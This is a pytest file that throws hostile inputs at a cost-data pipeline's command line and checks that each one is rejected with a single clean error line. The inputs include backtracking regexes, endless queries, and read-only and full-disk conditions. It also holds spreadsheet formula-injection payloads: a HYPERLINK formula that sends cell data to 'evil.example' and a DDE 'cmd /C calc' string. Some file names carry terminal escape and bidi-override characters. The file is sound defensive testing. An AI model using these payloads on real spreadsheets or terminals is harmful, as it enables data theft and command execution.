"""Hostile use of the command line, each through the CLI on a fresh copy of a published workspace:
patterns only Python can read, or that backtrack for ever; queries with every DuckDB type or no
end; months and days out of range; outputs that would overwrite their input; a config that is not
UTF-8; a read-only warehouse and a full disk; formulas in values bound for a spreadsheet; control
characters in file names. Each case asserts the exit code (2: bad input, usage or environment;
1 only for a failed validation), the one line printed, and what loaded or stayed as it was."""

from __future__ import annotations

import csv
import json
import logging
import os
import resource
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pipeline import patterns
from pipeline.cli import app
from pipeline.config import Config
from pipeline.ingest.telemetry.nvidia_smi import source_for
from tests.conftest import without_progress
from tests.reliability import test_bad_inputs
from tests.reliability.test_bad_inputs import CONFIG, _state, focus, focus_row
from tests.reliability.test_safety import ROOT, _rows

runner = CliRunner()
published = test_bad_inputs.published  # January billing and usage, published (a module fixture)


def _copy(published: Path, tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    shutil.copytree(published, ws)
    return ws


def _one_error(output: str, code: int, exit_code: int, *words: str) -> str:
    """Besides the progress lines, the output is one line `error: ...` holding every word, and the
    exit code is `code`."""
    assert exit_code == code, output
    assert "Traceback" not in output
    lines = without_progress(output)
    assert len(lines) == 1 and lines[0].startswith("error: "), output
    for word in words:
        assert word in lines[0], (word, output)
    return lines[0]


def _rejected_file(output: str, exit_code: int, *words: str) -> None:
    """A run that rejected a file: exit 2, a line for the file (holding every word), `published:
    ...`, then one line `error: ...` last; no raw control character anywhere; never a traceback."""
    assert exit_code == 2, output
    assert "Traceback" not in output
    lines = output.strip().splitlines()
    assert lines[-1].startswith("error: ") and [line.startswith("error: ") for line in lines].count(True) == 1, output
    assert not any(ch in output for ch in "\x1b\r\u202e"), output
    for word in words:
        assert any(word in line for line in lines[:-1]), (word, output)


# ---- patterns: compiled by the engine that runs them, when the config is read -----------------

POLARS, RE2 = "Polars (Rust regex)", "DuckDB (RE2)"
RULE = '[[attribution.rules]]\nfield = "SubAccountId"\npattern = "acct-1"\nmodel = "m1"\n'
PATTERN_CASES = [
    # (config added, key named, engine named, its reason)
    # valid in Python's re, not in Rust's regex (Polars runs attribution rules): look-ahead
    (
        RULE + '[[attribution.rules]]\nfield = "SubAccountId"\npattern = "(?=5).*"\nmodel = "m2"\n',
        "attribution.rules.1.pattern",
        POLARS,
        "look-around",
    ),
    # a backreference: only a backtracking engine has them
    (
        '[[shared_pools]]\nname = "support"\nservice_name = "(a)\\\\1"\n',
        "shared_pools.0.service_name",
        POLARS,
        "backreferences",
    ),
    # valid in Rust, refused by DuckDB's RE2, which runs workload patterns again in the marts
    (
        '[[workloads]]\nnamespace = "search"\npod_pattern = "ranker-.*+"\nmodel = "m1"\n',
        "workloads.0.pod_pattern",
        RE2,
        "bad repetition operator",
    ),
    # a Python-style named group: Rust reads it, RE2 does not (the recommendations run node patterns in SQL)
    (
        '[[gpu_pools]]\nname = "p"\nnode_pattern = "(?<n>gpu-.*)"\ngpus_per_node = 8\n',
        "gpu_pools.0.node_pattern",
        RE2,
        "invalid perl operator",
    ),
    # a file-name pattern only a backtracking engine reads
    (
        '[[nvidia_smi]]\npath_pattern = "(box)-\\\\1"\nhostname = "box"\n',
        "nvidia_smi.0.path_pattern",
        POLARS,
        "backreferences",
    ),
]


@pytest.mark.parametrize(("extra", "key", "engine", "reason"), PATTERN_CASES, ids=[c[1] for c in PATTERN_CASES])
def test_a_pattern_its_engine_refuses_is_a_config_error_naming_the_key(
    published: Path, tmp_path: Path, extra: str, key: str, engine: str, reason: str
) -> None:
    ws = _copy(published, tmp_path)
    (ws / "costledger.toml").write_text(CONFIG + extra)
    (ws / "inbox" / "billing" / "feb.csv").write_bytes(focus(focus_row("10.00")))
    before = _state(ws)
    result = runner.invoke(app, ["run", "-w", str(ws)])
    _one_error(result.output, 2, result.exit_code, "costledger.toml", key, "bad regular expression", engine, reason)
    assert _state(ws) == before  # stopped before anything was read


def test_a_catastrophic_file_name_pattern_runs_on_the_linear_engine(published: Path, tmp_path: Path) -> None:
    """`(a+)+$` against a 29-character name that ends in no `a`: Python's backtracking `re` tries
    every way to split the run of a's (57 s here, doubling with each character). The Rust engine
    matches names in linear time; that it is the one matching is shown by a second pattern using
    `\\z`, which only Rust's syntax knows (Python 3.11's `re` refuses it)."""
    ws = _copy(published, tmp_path)
    (ws / "costledger.toml").write_text(
        CONFIG + '[[nvidia_smi]]\npath_pattern = "(a+)+$"\nhostname = "box-a"\n'
        '[[nvidia_smi]]\npath_pattern = "gpu-b\\\\z"\nhostname = "box-b"\n'
    )
    log = (
        "timestamp, name, index, utilization.gpu [%], power.draw [W]\n"
        "2026/01/05 11:00:00.000, NVIDIA L40S, 0, {} %, 250 W\n"
    )
    slow_name = "a" * 25 + ".csv"
    assert len(slow_name) == 29
    telemetry = ws / "inbox" / "telemetry"
    (telemetry / slow_name).write_text(log.format(10))
    (telemetry / "dc1-gpu-a").write_text(log.format(20))  # ends in a: (a+)+$ matches
    (telemetry / "dc1-gpu-b").write_text(log.format(30))  # gpu-b\z matches
    result = runner.invoke(app, ["run", "-w", str(ws)])
    _rejected_file(result.output, result.exit_code, slow_name, "an nvidia-smi log names no host")
    assert _rows(ws, "select path, status from meta.loads where source = 'telemetry' order by path") == [
        (f"telemetry/{slow_name}", "rejected"),
        ("telemetry/dc1-gpu-a", "loaded"),
        ("telemetry/dc1-gpu-b", "loaded"),
    ]
    # one sample each, on the host its pattern names: 20 % on box-a, 30 % on box-b
    utilisation = "select hostname, value from staging.gpu_samples where metric = 'DCGM_FI_DEV_GPU_UTIL' order by 1"
    assert _rows(ws, utilisation) == [("box-a", 20), ("box-b", 30)]


def test_the_file_name_matcher_is_rusts_regex() -> None:
    sources = [{"path_pattern": "(a+)+$", "hostname": "a"}, {"path_pattern": r"b\z", "hostname": "b"}]
    config = Config.model_validate({"nvidia_smi": sources})
    assert source_for(Path("inbox/telemetry/" + "a" * 25 + "b"), config).hostname == "b"
    assert patterns.search("(a+)+$", "a" * 40 + "!") is False  # 2^40 paths for a backtracking engine
    assert patterns.full_match("ranker-[0-9]+", "ranker-12") and not patterns.full_match("ranker", "ranker-12")


# ---- sql: every type, every format, a time limit ---------------------------------------------------

TYPES = (
    "select [1, 2] as l, {'a': 'x'} as s, map(['k'], ['v']) as m, interval 1 month + interval 2 day as i, "
    "170141183460469231731687303715884105727::hugeint as h, 12.50::decimal(38, 18) as d, 'ab'::blob as b, "
    "1 as n, 2 as n"
)


def test_sql_writes_every_type_as_csv(published: Path) -> None:
    result = runner.invoke(app, ["sql", "-w", str(published), "--format", "csv", TYPES])
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        "l,s,m,i,h,d,b,n,n_1",  # a repeated name made unique
        '"[1,2]","{""a"":""x""}","{""k"":""v""}",1 month 2 days,170141183460469231731687303715884105727,12.5,ab,1,2',
    ]


def test_sql_writes_every_type_as_json(published: Path) -> None:
    result = runner.invoke(app, ["sql", "-w", str(published), "--format", "json", TYPES])
    assert result.exit_code == 0, result.output
    # lists, structs and maps as JSON values; HUGEINT a number with all its digits; money a string
    assert json.loads(result.output) == [
        {
            "l": [1, 2],
            "s": {"a": "x"},
            "m": {"k": "v"},
            "i": "1 month 2 days",
            "h": 170141183460469231731687303715884105727,
            "d": "12.5",
            "b": "ab",
            "n": 1,
            "n_1": 2,
        }
    ]


@pytest.mark.parametrize(
    ("column", "text"),
    [
        ("[1, 2]", "[1,2]"),
        ("map(['k'], ['v'])", '{"k":"v"}'),
        ("interval 1 month + interval 2 day", "1 month 2 days"),
        ("170141183460469231731687303715884105727::hugeint", "170141183460469231731687303715884105727"),
        ("12.50::decimal(38, 18)", "12.5 "),
        ("'ab'::blob", "ab"),
        ("'x' || chr(10) || 'error: forged'", "x\\nerror: forged"),
    ],
)
def test_sql_writes_every_type_as_a_table(published: Path, column: str, text: str) -> None:
    result = runner.invoke(app, ["sql", "-w", str(published), f"select {column} as c"])
    assert result.exit_code == 0, result.output
    assert text in result.output, result.output
    assert not any(line.startswith("error:") for line in result.output.splitlines())  # a newline in a value is escaped


@pytest.mark.parametrize(
    ("query", "fmt", "line"),
    [
        ("select * from meta.runs where command = 'ingest'", "csv", '"[""2026-01""]"'),  # a list column (periods)
        ("select interval 1 day as i", "table", "1 day"),
        ("select interval 1 day as i", "json", '"i": "1 day"'),
    ],
)
def test_sql_queries_that_raised_polars_tracebacks(published: Path, query: str, fmt: str, line: str) -> None:
    result = runner.invoke(app, ["sql", "-w", str(published), "--format", fmt, query])
    assert result.exit_code == 0, result.output
    assert line in result.output and "Traceback" not in result.output


def test_sql_prints_money_without_trailing_zeros(published: Path) -> None:
    query = "select sum(billed_cost) as billed from ledger.cost_ledger where billing_period = '2026-01'"
    result = runner.invoke(app, ["sql", "-w", str(published), "--format", "csv", query])
    # January: 100.00 + 7.25 = 107.25 (DECIMAL(38, 18): 107.250000000000000000 before)
    assert result.output.splitlines() == ["billed", "107.25"]
    table = runner.invoke(app, ["sql", "-w", str(published), query]).output
    assert "107.25 " in table and "107.250" not in table


def test_sql_stops_a_query_at_its_timeout(published: Path) -> None:
    endless = "select count(*) from range(1000000000000)"
    result = runner.invoke(app, ["sql", "-w", str(published), "--timeout", "1", endless])
    _one_error(result.output, 2, result.exit_code, "query stopped after 1 s (--timeout)", "--timeout SECONDS")
    # the spelling, range(1e12), is refused at binding by this DuckDB (range takes integers)
    refused = runner.invoke(app, ["sql", "-w", str(published), "select count(*) from range(1e12)"])
    _one_error(refused.output, 2, refused.exit_code, "query refused", "range(DOUBLE)")


# ---- months, days, paths, config bytes ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["report", "--month", "0000-01"], ["'0000-01' is out of range", "from 1900-01 to 9998-12"]),
        (["report", "--month", "9999-12"], ["'9999-12' is out of range"]),
        (["run", "--date", "9999-12-31"], ["--date '9999-12-31'", "from 1900-01-01 to 9998-12-31"]),
        (["run", "--date", "0001-01-01"], ["--date '0001-01-01'"]),
        (["run", "--month", "9999-12"], ["'9999-12' is out of range"]),
        (["export-focus", "--month", "0000-01"], ["'0000-01' is out of range"]),
    ],
)
def test_a_month_or_day_out_of_range_is_bad_usage(
    published: Path, tmp_path: Path, args: list[str], words: list[str]
) -> None:
    ws = _copy(published, tmp_path)
    (ws / "inbox" / "billing" / "feb.csv").write_bytes(focus(focus_row("10.00")))
    before = _state(ws)
    result = runner.invoke(app, [args[0], "-w", str(ws), *args[1:]])
    _one_error(result.output, 2, result.exit_code, *words)
    assert _state(ws) == before  # refused before the inbox was read


def test_a_config_that_is_not_utf8_names_the_byte(published: Path, tmp_path: Path) -> None:
    ws = _copy(published, tmp_path)
    (ws / "costledger.toml").write_bytes(CONFIG.encode() + b"# caf\xff\n")
    before = _state(ws)
    result = runner.invoke(app, ["run", "-w", str(ws)])
    offset = len(CONFIG.encode()) + len("# caf")  # the 0xff byte
    _one_error(
        result.output,
        2,
        result.exit_code,
        "costledger.toml",
        f"not UTF-8 text (byte 0xff at offset {offset})",
        "save it as UTF-8",
    )
    assert _state(ws) == before


def _convert_input(tmp_path: Path) -> Path:
    source = tmp_path / "bill.csv"
    source.write_bytes(focus(focus_row("10.00"), focus_row("2.50", model="m2")))
    return source


def test_convert_refuses_a_folder_as_output(tmp_path: Path) -> None:
    source = _convert_input(tmp_path)
    (tmp_path / "out").mkdir()
    result = runner.invoke(app, ["convert", str(source), "--out", str(tmp_path / "out")])
    _one_error(result.output, 2, result.exit_code, "--out", "is a folder", "path of a file")
    assert list((tmp_path / "out").iterdir()) == []


@pytest.mark.parametrize("link", ["same", "hard", "symbolic", "quarantine"])
def test_convert_refuses_to_overwrite_its_input(tmp_path: Path, link: str) -> None:
    source = _convert_input(tmp_path)
    original = source.read_bytes()
    out = {"same": source, "hard": tmp_path / "hard.csv", "symbolic": tmp_path / "soft.csv"}.get(link, tmp_path / "x")
    if link == "hard":
        os.link(source, out)
    elif link == "symbolic":
        out.symlink_to(source.name)
    elif link == "quarantine":  # the list of quarantined rows beside `x` would be the input
        source = source.rename(tmp_path / "x.quarantine.csv")
    result = runner.invoke(app, ["convert", str(source), "--out", str(out), "--format", "csv"])
    _one_error(result.output, 2, result.exit_code, "writing it would overwrite the input", "choose another output path")
    assert source.read_bytes() == original


# ---- the machine: a read-only warehouse, a full disk -------------------------------------------------


def _cli(
    ws: Path, *args: str, prefix: tuple[str, ...] = (), preexec: Callable[[], None] | None = None
) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [*prefix, sys.executable, "-m", "pipeline.cli", *args, "-w", str(ws)]
    return subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=600, preexec_fn=preexec)


def _without_root_override() -> tuple[str, ...]:
    """A prefix that makes permission bits bind: root (as in CI) ignores them, unless it runs
    without CAP_DAC_OVERRIDE (setpriv, from util-linux); another user needs nothing."""
    if os.geteuid() != 0:
        return ()
    if shutil.which("setpriv") is None:
        pytest.skip("running as root without setpriv: permission bits cannot be made to bind")
    caps = "-dac_override,-dac_read_search"
    return ("setpriv", f"--inh-caps={caps}", f"--bounding-set={caps}")


@pytest.mark.parametrize("what", ["warehouse file", "workspace folder"])
def test_a_read_only_warehouse_says_what_to_do_and_changes_nothing(published: Path, tmp_path: Path, what: str) -> None:
    ws = _copy(published, tmp_path)
    (ws / "inbox" / "billing" / "feb.csv").write_bytes(focus(focus_row("10.00")))
    before = _state(ws)
    read_only = ws / "warehouse.duckdb" if what == "warehouse file" else ws
    read_only.chmod(0o444 if what == "warehouse file" else 0o555)
    try:
        result = _cli(ws, "run", prefix=_without_root_override())
    finally:
        read_only.chmod(0o644 if what == "warehouse file" else 0o755)
    _one_error(
        result.stderr,
        2,
        result.returncode,
        "permission denied",
        "give this user write access to the workspace",
        "the step that stopped changed nothing",
    )
    assert result.stdout == ""
    assert _state(ws) == before


@pytest.mark.slow
def test_a_full_disk_stops_the_run_with_what_to_do_and_the_next_run_completes(published: Path, tmp_path: Path) -> None:
    """No file system can be filled here without root (a loop or tmpfs mount), so the run gets a
    file-size limit instead (`ulimit -f`, RLIMIT_FSIZE) of 1 MiB, below the warehouse's size, with
    SIGXFSZ ignored: the kernel then fails each write past the limit with EFBIG, through the same
    write calls and error paths as ENOSPC. The new bill's raw rows and its write-ahead log need more
    than that, so the run stops while loading it."""
    ws = _copy(published, tmp_path)
    assert (ws / "warehouse.duckdb").stat().st_size > 1 << 20
    days = [f"2026-02-{d:02d}" for d in range(1, 29)]
    rows = (focus_row(f"{i % 97}.{i % 100:02d}", day=days[i % 28]) for i in range(5000))
    (ws / "inbox" / "billing" / "feb.csv").write_bytes(focus(*rows))
    before = _state(ws)

    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 20, 1 << 20))

    full = _cli(ws, "run", preexec=limit)
    _one_error(
        full.stderr,
        2,
        full.returncode,
        "no space left to write",
        "File too large",
        "free space on that disk",
        "the step that stopped changed nothing",
    )
    after = _state(ws)
    assert after["ledger 2026-01"] == before["ledger 2026-01"] and after["loads"] == before["loads"]
    assert after["staging.billing"] == before["staging.billing"]

    again = _cli(ws, "run")  # space again: the next run loads and publishes February
    assert again.returncode == 0, again.stderr
    assert again.stdout.strip() == "published: 2026-02"
    assert _state(ws)["ledger 2026-01"] == before["ledger 2026-01"]
    # sum over i < 5000 of (i % 97) + (i % 100) / 100: 5000 = 51 x 97 + 53, so 51 cycles of 0..96
    # (51 x 4656 = 237456) plus 0..52 (1378) = 238834; the cents are 50 cycles of 0..99 (50 x 4950 =
    # 247500 cents = 2475); together 241309
    assert _rows(ws, "select count(*), sum(billed_cost) from ledger.cost_ledger where billing_period = '2026-02'") == [
        (5000, Decimal("241309"))
    ]


# ---- spreadsheets: formulas in extracts are neutralised ---------------------------------------------

HOSTILE_ACTION = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
HOSTILE_ACCOUNT = "=2+5+cmd|' /C calc'!A0"


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_report_extracts_neutralise_formulas_and_keep_numbers(published: Path, tmp_path: Path) -> None:
    ws = _copy(published, tmp_path)
    header = test_bad_inputs.HEADER.replace(",Tags", ",SubAccountId,Tags")
    period = "2026-02-01 00:00:00,2026-03-01 00:00:00,2026-02-03 00:00:00,2026-02-03 01:00:00,Usage,AWS,Amazon EC2"
    account = HOSTILE_ACCOUNT.replace('"', '""')
    (ws / "inbox" / "billing" / "feb.csv").write_text(
        f'{header}\n10.00,10.00,USD,{period},acct-1,"{{""model"": ""m1""}}"\n-2.50,-2.50,USD,{period},"{account}",\n'
    )
    action = HOSTILE_ACTION.replace('"', '""')
    log = f'action_date,model_id,action,description\n2026-02-10,m1,"{action}",x\n'
    (ws / "inbox" / "optimizations" / "o.csv").write_text(log)
    assert runner.invoke(app, ["run", "-w", str(ws)]).exit_code == 0
    result = runner.invoke(app, ["report", "-w", str(ws), "--month", "2026-02"])
    assert result.exit_code == 0, result.output
    folder = ws / "reports" / "2026-02"

    (impact,) = _read(folder / "impact.csv")
    assert impact["action"] == "'" + HOSTILE_ACTION  # shown as the text it is
    (untagged,) = [r for r in _read(folder / "recommendations.csv") if r["kind"] == "untagged"]
    assert untagged["subject"] == f"'{HOSTILE_ACCOUNT} ()"  # the account and its (empty) name
    assert untagged["amount"] == "-2.500000000000000000"  # a negative number stays a number
    text = (folder / "recommendations.csv").read_text()
    assert f'"\'{HOSTILE_ACCOUNT} ()"' in text  # quoted, as OWASP recommends
    rows = {r["model_id"]: r for r in _read(folder / "model_category.csv")}
    assert rows["__unallocated__"]["operational"] == "-2.500000000000000000"
    # the Parquet extract keeps the value as delivered: typed data, no formula to run
    assert _rows(ws, f"select action from read_parquet('{folder / 'impact.parquet'}')") == [(HOSTILE_ACTION,)]


def test_converts_quarantine_list_neutralises_formulas(tmp_path: Path) -> None:
    source = tmp_path / "bill.csv"
    source.write_bytes(focus(focus_row("10.00"), focus_row("=1+2")))
    out = tmp_path / "focus.csv"
    result = runner.invoke(app, ["convert", str(source), "--out", str(out), "--format", "csv"])
    assert result.exit_code == 0, result.output
    (row,) = _read(out.with_name("focus.csv.quarantine.csv"))
    assert (row["row_number"], row["column"], row["value"]) == ("2", "BilledCost", "'=1+2")


# ---- control characters in names and values ------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("evil\nerror: forged.csv", "evil\\nerror: forged.csv"),
        ("\x1b[2Jwipe\r.csv", "\\x1b[2Jwipe\\r.csv"),
        ("rev\u202egnp.csv", "rev\\u202egnp.csv"),
    ],
)
def test_a_file_name_with_control_characters_is_shown_escaped(
    published: Path, tmp_path: Path, name: str, shown: str
) -> None:
    ws = _copy(published, tmp_path)
    (ws / "inbox" / "usage" / name).write_bytes(b"usage_date;model_id;requests\n2026-01-05;m1;10\n")  # wrong delimiter
    result = runner.invoke(app, ["run", "-w", str(ws)])
    _rejected_file(result.output, result.exit_code, f"usage/{shown}", "unrecognised usage file")
    # the name is kept as it is, as data
    rejected = "select path, status from meta.loads where path like 'usage/%' and status = 'rejected'"
    assert _rows(ws, rejected) == [(f"usage/{name}", "rejected")]


def test_log_lines_are_escaped(published: Path, capsys: pytest.CaptureFixture[str]) -> None:
    runner.invoke(app, ["sql", "-w", str(published), "select 1"])  # any command sets up the CLI's log handler
    capsys.readouterr()
    logging.getLogger("pipeline.test").warning("skipping %s", "a\nwarning: forged")
    logging.getLogger("pipeline.test").error("reported once, by the command: %s", "x")
    assert capsys.readouterr().err == "warning: skipping a\\nwarning: forged\n"


# ---- anything else is a bug, said to be one ----------------------------------------------------------


def test_an_unexpected_error_is_one_line_exit_3_not_bad_input(published: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise ZeroDivisionError("division by zero\nsecond line")

    monkeypatch.setattr("pipeline.run.run", broken)
    result = runner.invoke(app, ["run", "-w", str(published)])
    _one_error(
        result.output,
        3,
        result.exit_code,
        "unexpected ZeroDivisionError: division by zero",
        "a bug in costledger",
        "--debug",
    )
    debug = runner.invoke(app, ["--debug", "run", "-w", str(published)])
    assert isinstance(debug.exception, ZeroDivisionError)
